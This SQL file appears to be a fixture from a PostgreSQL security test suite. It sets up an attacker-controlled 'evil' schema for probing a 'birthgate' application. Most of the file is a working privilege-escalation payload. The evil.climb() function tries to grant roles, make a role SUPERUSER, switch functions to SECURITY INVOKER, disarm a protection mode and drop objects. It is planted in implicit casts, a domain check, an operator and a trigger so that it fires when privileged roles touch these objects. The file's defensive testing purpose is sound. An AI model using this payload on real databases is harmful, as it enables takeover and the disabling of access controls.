-- What an attacker has ready, as the owner of public.thing: a function that climbs as far as whoever runs it can, and the ways to
-- have it run. Sequences keep what a rollback would take back. They are there for every role that our looks run as. Where the test
-- itself has taken a guard away, evil.climbs says how far the payload may go.
CREATE SEQUENCE evil.ran_as_birthgate_reader;
CREATE SEQUENCE evil.ran_as_birthgate_owner;
CREATE SEQUENCE evil.ran_as_postgres;
CREATE SEQUENCE evil.ran_as_clerk;
GRANT ALL ON ALL SEQUENCES IN SCHEMA evil TO PUBLIC;

CREATE FUNCTION evil.climb() RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
  v_function regprocedure;
  v_statement text;
BEGIN
  IF current_user IN ('thing_owner', 'app') THEN
    RETURN true;
  END IF;
  IF to_regclass('evil.ran_as_' || current_user) IS NOT NULL AND current_setting('transaction_read_only') = 'off' THEN
    PERFORM nextval('evil.ran_as_' || current_user);
  END IF;
  IF current_setting('evil.climbs', true) = 'nowhere' THEN
    RETURN true;
  END IF;
  FOR v_function IN SELECT oid FROM pg_catalog.pg_proc WHERE pronamespace::regnamespace::text LIKE 'birthgate%' AND pg_has_role(proowner, 'USAGE') LOOP
    BEGIN
      EXECUTE format('ALTER FUNCTION %s SECURITY INVOKER', v_function);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  IF current_setting('evil.climbs', true) = 'functions' THEN
    RETURN true;
  END IF;
  FOREACH v_statement IN ARRAY ARRAY[
    'GRANT birthgate_owner TO thing_owner', 'GRANT birthgate_registrar TO thing_owner', 'GRANT birthgate_admitter TO thing_owner WITH ADMIN OPTION',
    'ALTER ROLE thing_owner SUPERUSER', 'ALTER ROLE thing_owner CREATEROLE', 'SET ROLE postgres', 'SET ROLE birthgate_owner', 'RESET SESSION AUTHORIZATION',
    'UPDATE birthgate.collection SET mode = ''disarmed''', 'GRANT ALL ON ALL TABLES IN SCHEMA birthgate TO thing_owner',
    'GRANT ALL ON SCHEMA birthgate, birthgate_look TO thing_owner', 'DROP OWNED BY birthgate_reader CASCADE'] LOOP
    BEGIN
      EXECUTE v_statement;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  RETURN true;
END
$$;
CREATE FUNCTION evil.climbed(text) RETURNS text LANGUAGE plpgsql STABLE AS $$ BEGIN PERFORM evil.climb(); RETURN $1; END $$;
CREATE FUNCTION evil.folded(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.climb(); RETURN $1; END $$;
CREATE FUNCTION evil.on_row() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.climb(); RETURN NEW; END $$;

CREATE TYPE evil.box AS (v text);
CREATE FUNCTION evil.text_of(evil.box) RETURNS text LANGUAGE plpgsql STABLE AS $$ BEGIN PERFORM evil.climb(); RETURN ($1).v; END $$;
CREATE FUNCTION evil.boxed(text) RETURNS evil.box LANGUAGE plpgsql STABLE AS $$ BEGIN PERFORM evil.climb(); RETURN ROW($1); END $$;
CREATE CAST (evil.box AS text) WITH FUNCTION evil.text_of(evil.box) AS IMPLICIT;
CREATE CAST (text AS evil.box) WITH FUNCTION evil.boxed(text) AS IMPLICIT;
CREATE DOMAIN evil.checked AS text CHECK (evil.climbed(coalesce(VALUE, '')) IS NOT NULL);
CREATE FUNCTION evil.is_equal(evil.box, evil.box) RETURNS boolean LANGUAGE plpgsql STABLE AS $$ BEGIN PERFORM evil.climb(); RETURN ($1).v = ($2).v; END $$;
CREATE OPERATOR evil.= (LEFTARG = evil.box, RIGHTARG = evil.box, FUNCTION = evil.is_equal);

-- Where people approve.
CREATE TABLE public.approvals (approver_kind text, note text);
INSERT INTO public.approvals VALUES ('human', 'yes');
